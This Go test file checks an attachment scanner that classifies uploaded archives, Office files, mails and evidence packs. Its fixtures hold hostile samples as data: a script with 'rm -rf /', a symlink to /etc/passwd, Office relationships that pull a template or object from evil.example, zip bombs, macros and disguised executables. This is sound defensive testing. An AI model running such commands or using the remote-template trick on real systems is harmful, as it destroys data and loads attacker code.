package attachment

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"io"
	"io/fs"
	"strings"
	"testing"

	"jianfu/internal/problem"
)

// entry is one of an archive that a test makes.
type entry struct {
	name, contents string
	mode           fs.FileMode
	flags          uint16
}

func zipped(t *testing.T, entries ...entry) string {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, e := range entries {
		header := &zip.FileHeader{Name: e.name, Method: zip.Deflate, Flags: e.flags}
		header.SetMode(e.mode | 0o644)
		f, err := w.CreateHeader(header)
		if err == nil {
			_, err = io.WriteString(f, e.contents)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

const letter = "该单位五月未按新费率征收。\n"

// docx is a document of Office with more in it.
func docx(t *testing.T, more ...entry) string {
	t.Helper()
	return zipped(t, append([]entry{{name: "[Content_Types].xml", contents: "<Types/>"}, {name: "word/document.xml", contents: "<?xml version=\"1.0\"?><w:document/>"}}, more...)...)
}

// relationship is one that a document of Office has to something elsewhere.
func relationship(kind string) entry {
	return entry{name: "word/_rels/settings.xml.rels", contents: `<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/` +
		kind + `" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>`}
}

// TestWhatArchivesHold tries what an archive may bring along, in archives, documents, mails and evidence packs.
func TestWhatArchivesHold(t *testing.T) {
	pack := func(more ...entry) string {
		return zipped(t, append([]entry{{name: "SHA256SUMS", contents: "00  data/records.csv\n"}, {name: "data/records.csv", contents: "unit_id,period\n"},
			{name: "data/case.json", contents: "{}"}, {name: "封面.html", contents: "<!DOCTYPE html><html><link rel=stylesheet href=style.css>"}, {name: "policy/pack.yaml", contents: "id: x\n"}}, more...)...)
	}
	mailed := func(name, contents string) string {
		return "From: a@example.cn\r\nTo: b@example.cn\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"q\"\r\n\r\n--q\r\nContent-Type: text/plain\r\n\r\nhello\r\n" +
			"--q\r\nContent-Type: application/octet-stream; name=\"" + name + "\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString([]byte(contents)) + "\r\n--q--\r\n"
	}
	large := strings.Repeat("x,", 5<<20)
	var bomb []entry
	for i := range 21 {
		bomb = append(bomb, entry{name: string(rune('a'+i)) + ".csv", contents: large})
	}
	const word = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
	for name, c := range map[string]struct{ file, contents, want string }{
		"letters and tables":                  {"包.zip", zipped(t, entry{name: "说明.txt", contents: letter}, entry{name: "表/明细.csv", contents: "a,b\n1,2\n"}), "application/zip"},
		"a folder":                            {"包.zip", zipped(t, entry{name: "空/", mode: fs.ModeDir}, entry{name: "说明.txt", contents: letter}), "application/zip"},
		"a document of Office in an archive":  {"包.zip", zipped(t, entry{name: "函.docx", contents: docx(t)}), "application/zip"},
		"an archive in an archive":            {"包.zip", zipped(t, entry{name: "里面.zip", contents: zipped(t, entry{name: "a.txt", contents: letter})}), "attachment_archive_entry"},
		"one that is called a document":       {"包.zip", zipped(t, entry{name: "里面.docx", contents: zipped(t, entry{name: "a.txt", contents: letter})}), "attachment_archive_entry"},
		"an archive of another kind":          {"包.zip", zipped(t, entry{name: "里面.7z", contents: "7z\xbc\xaf\x27\x1c" + letter}), "attachment_archive_entry"},
		"a link":                              {"包.zip", zipped(t, entry{name: "说明.txt", contents: "/etc/passwd", mode: fs.ModeSymlink}), "attachment_archive_entry"},
		"a device":                            {"包.zip", zipped(t, entry{name: "说明.txt", mode: fs.ModeDevice}), "attachment_archive_entry"},
		"a shortcut to somewhere":             {"包.zip", zipped(t, entry{name: "打开.url", contents: "[InternetShortcut]\nURL=http://evil.example\n"}), "attachment_archive_entry"},
		"a program under a harmless name":     {"包.zip", zipped(t, entry{name: "凭证.pdf", contents: exe}), "attachment_archive_entry"},
		"a program without an ending":         {"包.zip", zipped(t, entry{name: "更新", contents: exe}), "attachment_archive_entry"},
		"a script":                            {"包.zip", zipped(t, entry{name: "run.sh", contents: "#!/bin/sh\nrm -rf /\n"}), "attachment_archive_entry"},
		"a page":                              {"包.zip", zipped(t, entry{name: "看.html", contents: page}), "attachment_archive_entry"},
		"a document with macros":              {"包.zip", zipped(t, entry{name: "函.docx", contents: docx(t, entry{name: "word/vbaProject.bin", contents: "x"})}), "attachment_macros"},
		"the same name twice":                 {"包.zip", zipped(t, entry{name: "a.txt", contents: letter}, entry{name: "a.txt", contents: "other"}), "attachment_archive_entry"},
		"a locked entry":                      {"包.zip", zipped(t, entry{name: "a.txt", contents: letter, flags: 1}), "attachment_locked"},
		"far more than it seems":              {"包.zip", zipped(t, bomb...), "attachment_bomb"},
		"one entry of too much":               {"包.zip", zipped(t, entry{name: "a.csv", contents: strings.Repeat("x,", 11<<20)}), "attachment_bomb"},
		"a document that unpacks to too much": {"函.docx", docx(t, bomb...), "attachment_bomb"},
		"macros under another name":           {"函.docx", docx(t, entry{name: "word/data.bin", contents: ole + string(wide("_VBA_PROJECT"))}), "attachment_macros"},
		"macros that only the types tell":     {"函.docx", zipped(t, entry{name: "[Content_Types].xml", contents: `<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>`}, entry{name: "word/document.xml", contents: "<x/>"}), "attachment_macros"},
		"macros of old tables":                {"表.xlsx", zipped(t, entry{name: "xl/workbook.xml", contents: "<x/>"}, entry{name: "xl/macrosheets/sheet1.xml", contents: "<x/>"}), "attachment_macros"},
		"a program packed into a document":    {"函.docx", docx(t, entry{name: "word/embeddings/oleObject1.bin", contents: ole + string(wide("\x01Ole10Native")) + exe}), "attachment_macros"},
		"a program as a picture of it":        {"函.docx", docx(t, entry{name: "word/media/image1.png", contents: exe}), "attachment_archive_entry"},
		"a template from elsewhere":           {"函.docx", docx(t, relationship("attachedTemplate")), "attachment_archive_entry"},
		"an object from elsewhere":            {"函.docx", docx(t, relationship("oleObject")), "attachment_archive_entry"},
		"a link in its text":                  {"函.docx", docx(t, relationship("hyperlink")), word},
		"a table behind its chart":            {"函.docx", docx(t, entry{name: "word/embeddings/book.xlsx", contents: zipped(t, entry{name: "xl/workbook.xml", contents: "<x/>"})}), word},
		"an archive in a document":            {"函.docx", docx(t, entry{name: "word/embeddings/a.zip", contents: zipped(t, entry{name: "a.txt", contents: letter})}), "attachment_archive_entry"},
		"a mail with a table":                 {"来信.eml", mailed("明细.csv", "a,b\n1,2\n"), "message/rfc822"},
		"a mail with a program":               {"来信.eml", mailed("凭证.exe", exe), "attachment_archive_entry"},
		"a mail with a disguised program":     {"来信.eml", mailed("凭证.pdf", exe), "attachment_archive_entry"},
		"a mail with an archive with one":     {"来信.eml", mailed("包.zip", zipped(t, entry{name: "a.exe", contents: exe})), "attachment_archive_entry"},
		"an evidence pack":                    {"随便.zip", pack(), Evidence},
		"one in a folder":                     {"随便.zip", zipped(t, entry{name: "取证包/SHA256SUMS", contents: "x"}, entry{name: "取证包/data/records.csv", contents: "unit_id,period\n"}), Evidence},
		"one whose page runs something":       {"随便.zip", pack(entry{name: "trace.html", contents: page}), "attachment_archive_entry"},
		"one with a program":                  {"随便.zip", pack(entry{name: "data/a.csv", contents: exe}), "attachment_archive_entry"},
		"one in an archive":                   {"包.zip", zipped(t, entry{name: "里面.zip", contents: pack()}), "attachment_archive_entry"},
	} {
		t.Run(name, func(t *testing.T) {
			found, err := typeOf(CleanName(c.file), []byte(c.contents))
			if err != nil {
				found = problem.Code(err)
			}
			if found != c.want {
				t.Errorf("it is found to be %s (%v), want %s", found, err, c.want)
			}
			if IsEvidence([]byte(c.contents)) != (c.want == Evidence || strings.HasPrefix(name, "one whose") || name == "one with a program") {
				t.Errorf("an evidence pack: %v", IsEvidence([]byte(c.contents)))
			}
		})
	}
}
